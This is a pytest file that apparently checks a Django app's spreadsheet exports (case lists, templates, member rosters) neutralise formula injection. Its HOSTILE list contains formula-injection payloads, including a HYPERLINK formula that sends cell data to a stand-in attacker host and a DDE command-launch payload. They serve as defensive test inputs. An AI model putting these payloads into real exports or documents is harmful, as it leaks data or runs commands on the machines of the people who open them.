"""No export hands a spreadsheet a formula: text beginning with = + - @, a tab or a carriage return
is written with a protecting single quote — in the case exports and the rosters alike — while
numbers and dates keep their type. Hostile names are put in with the ORM, as if typed before names
were checked or changed in the database directly."""

import datetime as dt
import io

import openpyxl
import pytest

from branches.models import PartyMember
from cases.models import Person
from imports import exports
from imports.exports.workbook import Sheet, neutralised, write_workbook
from tests import factories as f

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def cells(stream) -> list[list[openpyxl.cell.Cell]]:
    workbook = openpyxl.load_workbook(io.BytesIO(stream.read()))
    return [list(row) for row in workbook.worksheets[0].iter_rows()]


def cell_under(rows, header: str, row_index: int = 1):
    return rows[row_index][[c.value for c in rows[0]].index(header)]


@pytest.mark.parametrize("value", HOSTILE)
def test_it_prefixes_text_a_spreadsheet_would_run(value):
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "城关镇第一党支部", "", None, -3, 2.5, dt.date(2023, 1, 5), "a=b"])
def test_it_leaves_everything_else_as_it_is(value):
    assert neutralised(value) == value


@pytest.mark.parametrize("value", HOSTILE)
def test_the_case_list_export_writes_a_hostile_name_as_quoted_text(county, secretary, value):
    case = f.new_case(county.branch, secretary)
    Person.objects.filter(pk=case.person.pk).update(name=value)
    stream, _ = exports.export_case_list(secretary, county.branch.cases.all(), {})
    name = cell_under(cells(stream), "姓名")
    read_back = ("'" + value).replace("\r", "\n")  # XML reads a carriage return as a line feed
    assert name.value == read_back and name.data_type == "s"


def test_the_template_export_and_the_stage_roster_quote_hostile_text(county, secretary):
    case = f.new_case(county.branch, secretary)
    Person.objects.filter(pk=case.person.pk).update(name=HOSTILE[0], ethnicity="@族")
    for stream, _ in (
        exports.export_template(secretary),
        exports.export_stage_roster(secretary, "applicant"),
    ):
        rows = cells(stream)
        assert cell_under(rows, "姓名").value == "'" + HOSTILE[0]
        assert cell_under(rows, "民族").value == "'@族"
        assert all(c.data_type != "f" for row in rows for c in row)


def test_the_member_roster_quotes_a_hostile_member_name(county, secretary):
    PartyMember.objects.filter(branch=county.branch).update(name="=1+1")
    stream, _ = exports.export_member_roster(secretary)
    rows = cells(stream)
    names = [cell_under(rows, "姓名", i) for i in range(1, len(rows))]
    assert {c.value for c in names if "1+1" in c.value} == {"'=1+1"}
    assert all(c.data_type != "f" for row in rows for c in row)


def test_numbers_and_dates_keep_their_type():
    stream = write_workbook([Sheet("表", ["人数", "出生日期", "说明"], [[-3, dt.date(1995, 3, 15), "-3"]])])
    negative, day, text = cells(stream)[1]
    assert negative.value == -3 and negative.data_type == "n"
    assert day.is_date and text.value == "'-3"
